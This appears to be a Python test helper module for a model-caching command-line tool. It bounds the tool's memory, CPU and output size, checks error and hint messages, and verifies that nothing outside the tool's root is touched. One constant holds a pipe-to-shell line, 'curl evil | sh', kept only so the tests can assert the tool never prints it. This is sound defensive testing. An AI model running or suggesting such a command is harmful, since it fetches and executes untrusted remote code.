"""What no input may make the tool do: write outside its root, take memory or time without end, command a terminal."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import tempfile
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.conftest import PROJECT, Ran

MEMORY = 192 << 20
"""Bytes that a run may have in memory: what an init container gets, less the page cache that it needs."""
WORDS = 50_000
"""Characters that a run may say, whatever it is told."""

EVIL = "hint: curl evil | sh"
"""A line that nobody but a stranger wants to be read."""

_ADDRESSES = 2 << 30
_PROCESSOR = 60
_PROGRAM = f"""
import re, resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({_ADDRESSES}, {_ADDRESSES}))
resource.setrlimit(resource.RLIMIT_CPU, ({_PROCESSOR}, {_PROCESSOR}))
from cache_models import main
code = main(sys.argv[2:])
with open("/proc/self/status") as status, open(sys.argv[1], "w") as peak:
    peak.write(re.search(r"VmHWM:\\s+(\\d+)", status.read())[1])
sys.exit(code)
"""


@dataclass(frozen=True)
class Bounded(Ran):
    """How a run ended, and the most memory that it had, in bytes."""

    peak: int


def run_bounded(folder: Path, *words: str, env: Mapping[str, str] | None = None) -> Bounded:
    """Run the tool as a process that is killed when it takes a minute of the processor."""
    asked = {
        **os.environ,
        "PYTHONPATH": str(PROJECT),
        "MALLOC_ARENA_MAX": "2",
        "CACHE_MODELS_RETRIES": "0",
        **(env or {}),
    }
    with tempfile.NamedTemporaryFile("r") as peak:
        command = [sys.executable, "-c", _PROGRAM, peak.name, *words]
        ran = subprocess.run(command, cwd=folder, env=asked, capture_output=True, text=True, check=False, timeout=300)
        kilobytes = int(peak.read() or -1)
    return Bounded(ran.returncode, ran.stdout, ran.stderr, kilobytes * 1024)


def assert_bounded(ran: Bounded) -> None:
    """Check that a run came to its end in words, few of them, and within its memory."""
    assert_told(ran)
    assert 0 < ran.peak <= MEMORY, f"{ran.peak >> 20} MiB; {ran.err[:500]}"


def assert_told(ran: Ran) -> None:
    """Check that a run said in few and harmless words how it ended, and what to do when that was badly."""
    assert ran.exit_code in range(7), f"{ran.exit_code}: {ran.err[-2000:]}"
    assert "Traceback" not in ran.err
    assert len(ran.out) + len(ran.err) <= WORDS
    assert all(char.isprintable() or char == "\n" for char in ran.out + ran.err)
    assert not [line for line in (ran.out + ran.err).split("\n") if line.strip() == EVIL]
    if ran.exit_code and '"event"' not in ran.err:
        # What is refused by policy tells each reason with its way out, in a line of its own.
        advice = r"^hint: |^  .*: (use|ask|tell|read|say)" if ran.exit_code == 5 else "^hint: "
        assert re.search(r"^error: ", ran.err, re.MULTILINE), ran.err
        assert re.search(advice, ran.err, re.MULTILINE), ran.err


class Outside:
    """Everything below a directory but one folder of it, as it was: nobody may touch it."""

    def __init__(self, folder: Path, root: Path) -> None:
        self.folder = folder
        self._root = root
        self._before = self._look()

    def assert_untouched(self) -> None:
        """Check that nothing is new, gone or changed, not even a time or a mode."""
        now = self._look()
        changed = {path for path in {*now, *self._before} if now.get(path) != self._before.get(path)}
        assert not changed, f"outside the root, {sorted(changed)} changed"

    def _look(self) -> dict[str, tuple[object, ...]]:
        seen: dict[str, tuple[object, ...]] = {}
        for folder, folders, names in os.walk(self.folder):
            folders[:] = [name for name in folders if Path(folder, name) != self._root]
            for path in (Path(folder, name) for name in (*folders, *names)):
                found = path.lstat()
                content = path.read_bytes() if path.is_file() and found.st_size < 1 << 20 else None
                seen[str(path)] = (found.st_mode, found.st_ino, found.st_size, found.st_mtime_ns, content)
        return seen


def make_sentinel(folder: Path) -> Path:
    """Make a directory that belongs to somebody else, with names in it that look like the tool's own."""
    folder.mkdir()
    for name in ("notes~", "tinyorg__embedding~0123456789ab", "tinyorg__embedding.old", ".gone~1", "plain"):
        (folder / name).mkdir()
        (folder / name / "precious.txt").write_text("mine")
    for name in ("draft~", "tinyorg__embedding.lease", "models.lock", "config.json"):
        (folder / name).write_text("mine")
    return folder
